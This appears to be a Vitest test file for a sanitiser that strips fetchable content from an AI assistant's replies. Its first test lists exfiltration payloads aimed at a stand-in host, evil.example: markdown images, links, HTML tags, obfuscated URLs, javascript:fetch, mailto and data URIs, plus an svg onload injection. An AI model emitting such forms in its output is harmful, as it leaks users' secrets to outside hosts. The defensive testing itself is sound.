import { describe, expect, test } from "vitest";

import { createPlainTextStream, inertText, toPlainText } from "./plain-text.ts";

describe("nothing in a reply can be followed or fetched", () => {
  const forms = [
    "![logo](https://evil.example/p.png?d=SECRET)",
    "[read it](https://evil.example/?d=SECRET)",
    "[read it][1]\n\n[1]: https://evil.example/?d=SECRET",
    "![x][1]\n[1]: https://evil.example/?d=SECRET",
    "<https://evil.example/?d=SECRET>",
    '<img src="https://evil.example/?d=SECRET">',
    '<a href="https://evil.example/?d=SECRET">x</a>',
    "https://evil.example/?d=SECRET",
    "HTTPS://EVIL.EXAMPLE/?D=SECRET",
    "ht\u200Btps://evil.example/?d=SECRET",
    "www.evil.example/SECRET",
    "evil.example/SECRET",
    "SECRET.evil.example",
    `${"SECRET".repeat(5)}.example`,
    "data:text/html,SECRET",
    "javascript:fetch('//evil.example/SECRET')",
    "mailto:evil@evil.example?body=SECRET",
    "ftp://evil.example/SECRET",
    "[ref]: <https://evil.example/SECRET>",
  ];
  test.each(forms)("%s", (form) => {
    const told: string[] = [];
    const stream = createPlainTextStream((part) => told.push(part));
    for (const piece of `You have mail. ${form} That is all.`.match(/.{1,3}|\n/gu) ?? [])
      stream.push(piece);
    for (const text of [toPlainText(`You have mail. ${form} That is all.`), stream.end()])
      expect(text).not.toMatch(/SECRET|evil\.example\/|:\/\//iu);
    expect(told.join("")).not.toMatch(/SECRET/iu);
  });
});

test.each([
  "Dana (dana@acme.com) and Sam from acme.com wrote at 9:30 a.m.",
  "You have 3 events: 12:00-13:00 lunch, 15:00 review [moved], 17:00 call.",
  "Prices went from $1.50 to $2.25, i.e. up by 50%.",
  "Réunion à 9h, 会議は3時です。 🎉",
])("plain words stay as they are: %s", (text) => {
  expect(toPlainText(text)).toBe(text);
});

test("marks of emphasis go, their words stay", () => {
  expect(toPlainText("## Today\n**Lunch** with `Eden`")).toBe("Today\nLunch with Eden");
});

test("what is told piece by piece is the whole, and in pieces worth sending", () => {
  const text = "Dana asks for the figures by Friday. ".repeat(10);
  const told: string[] = [];
  const stream = createPlainTextStream((part) => told.push(part));
  for (const character of text) stream.push(character);
  expect(stream.end()).toBe(text);
  expect(told.join("")).toBe(text);
  expect(told.length).toBeGreaterThan(1);
  expect(told.length).toBeLessThan(10);
});

test.each([
  ["![x](https://evil.example/p)", "! [x](https://evil.example/p)"],
  ["![x][1]", "! [x][1]"],
  ['<img src="https://evil.example/p">', '< img src="https://evil.example/p">'],
  ["<svg/onload=x>", "< svg/onload=x>"],
  ["a <b>c</b>", "a < b>c< /b>"],
  ["Dana <dana@acme.com>: is 1 < 2 [done]!", "Dana <dana@acme.com>: is 1 < 2 [done]!"],
])("what is shown word for word fetches nothing: %s", (text, shown) => {
  expect(inertText(text)).toBe(shown);
});
